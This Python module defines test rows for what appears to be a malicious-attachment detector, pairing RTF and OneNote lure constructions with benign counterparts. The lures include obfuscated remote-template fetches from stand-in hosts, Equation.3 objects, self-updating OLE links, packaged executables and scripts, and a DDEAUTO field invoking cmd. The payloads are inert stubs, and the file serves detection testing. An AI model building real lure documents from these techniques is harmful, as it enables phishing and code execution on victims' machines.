"""Constructions in rich text and OneNote."""

from __future__ import annotations

import struct
from functools import partial

from lure.attachment.builders import rich_text as r
from lure.attachment.builders.compounds import compound
from lure.attachment.builders.objects import STUB, equation, native, ole_link
from lure.attachment.construction import Construction, row


def _package(label: str, data: bytes) -> bytes:
    return r.embedded("Package", native(label, data)[4:])


def _note(data: bytes, name: str) -> bytes:
    store = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + struct.pack("<QIQ", len(data), 0, 0)
    head = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + b"\0" * 64
    return head + name.encode("utf-16-le") + b"\0\0\0\0" + store + data


ROWS: tuple[Construction, ...] = (
    row(
        "rtf: remote template",
        "offer.rtf",
        partial(r.templated, "https://docs.example/x.dotm"),
        "rtf_remote_template",
        partial(r.templated, "C:\\\\t\\\\Normal.dotm"),
    ),
    row(
        "rtf: remote template in Unicode words",
        "offer.rtf",
        partial(r.templated, r.unicode_letters("https://docs.example/x.dotm")),
        "rtf_remote_template",
        partial(r.templated, r.unicode_letters("Normal.dotm")),
    ),
    row(
        "rtf: remote template in hexadecimal",
        "offer.rtf",
        partial(r.templated, "\\'68\\'74\\'74\\'70://docs.example/x.dotm"),
        "rtf_remote_template",
        r.rtf,
    ),
    row(
        "rtf: remote template in a .doc",
        "offer.doc",
        partial(r.templated, "\\\\\\\\files.example\\\\x.dotm"),
        "rtf_remote_template",
        r.rtf,
    ),
    row(
        "rtf: equation",
        "offer.rtf",
        partial(r.embedded, "Equation.3", equation(b"A" * 60)),
        "rtf_object",
        partial(r.embedded, "Excel.Sheet.8", compound({"Workbook": b"\0" * 128})),
    ),
    row(
        "rtf: equation's class in odd letters",
        "offer.rtf",
        partial(r.embedded, "eQuATioN.3", b"\0" * 40),
        "rtf_object",
        partial(r.embedded, "Word.Picture.8", compound({"CONTENTS": b"plain words"})),
    ),
    row(
        "rtf: equation with a long font",
        "offer.rtf",
        partial(r.embedded, "Equation.3", equation(b"A" * 60)),
        "rtf_object",
        r.rtf,
    ),
    row(
        "rtf: link that updates itself",
        "offer.rtf",
        partial(r.embedded, "OLE2Link", b"x" * 40, flags="\\objautlink\\objupdate"),
        "rtf_object",
        partial(r.embedded, "Excel.Sheet.8", compound({"Workbook": b"\0" * 64}), flags="\\objlink"),
    ),
    row(
        "rtf: object that updates itself",
        "offer.rtf",
        partial(
            r.embedded,
            "Word.Document.8",
            compound({"CONTENTS": b"plain words"}),
            flags="\\objemb\\objupdate",
        ),
        "rtf_object",
        partial(r.embedded, "Word.Document.8", compound({"CONTENTS": b"plain words"})),
    ),
    row(
        "rtf: data between words",
        "offer.rtf",
        partial(r.embedded, "Word.Document.8", b"plain words here", junk="{\\*\\x 1}"),
        "rtf_object",
        partial(r.embedded, "Paint.Picture", b"plain words here", junk="\r\n "),
    ),
    row(
        "rtf: data between control words",
        "offer.rtf",
        partial(r.embedded, "Package", native("a.exe", STUB)[4:], junk="\\par\\sp "),
        "rtf_object ole_embedded_program",
        partial(_package, "a.txt", b"plain words\n"),
    ),
    row(
        "rtf: packaged program",
        "offer.rtf",
        partial(_package, "view.exe", STUB),
        "ole_embedded_program",
        partial(_package, "list.txt", b"plain words\n"),
    ),
    row(
        "rtf: packaged script",
        "offer.rtf",
        partial(_package, "view.js", b"var a = 1;\n"),
        "ole_embedded_program",
        partial(_package, "list.csv", b"a,b\n1,2\n"),
    ),
    row(
        "rtf: scriptlet",
        "offer.rtf",
        partial(r.embedded, "Scriptlet.Context", b"x" * 32),
        "rtf_object",
        r.rtf,
    ),
    row(
        "rtf: loader for unprotected modules",
        "offer.rtf",
        partial(r.embedded, "otkloadr.WRLoader.1", b"x" * 32),
        "rtf_object",
        r.rtf,
    ),
    row(
        "rtf: compound object with a link",
        "offer.rtf",
        partial(
            r.embedded,
            "Word.Document.8",
            compound({"\x01Ole": ole_link("https://docs.example/x.hta")}),
        ),
        "external_link",
        partial(r.embedded, "Word.Document.8", compound({"\x01Ole": ole_link("C:\\x.doc")})),
    ),
    row(
        "rtf: DDE field",
        "offer.rtf",
        partial(r.field, 'DDEAUTO "cmd" "/c echo"'),
        "dde_link",
        partial(r.field, 'HYPERLINK "https://careers.example"'),
    ),
    row(
        "rtf: text from outside",
        "offer.rtf",
        partial(r.field, 'INCLUDETEXT "https://docs.example/x.doc"'),
        "external_link",
        partial(r.field, "DATE"),
    ),
    row(
        "onenote: embedded script",
        "offer.one",
        partial(_note, b"WScript.Echo 1\n", "open.vbs"),
        "ole_embedded_program",
        partial(_note, b"\x89PNG\r\n\x1a\n" + b"\0" * 20, "logo.png"),
    ),
    row(
        "onenote: embedded program",
        "offer.one",
        partial(_note, STUB, "view.exe"),
        "ole_embedded_program",
        partial(_note, b"plain words\n", "notes.txt"),
    ),
)
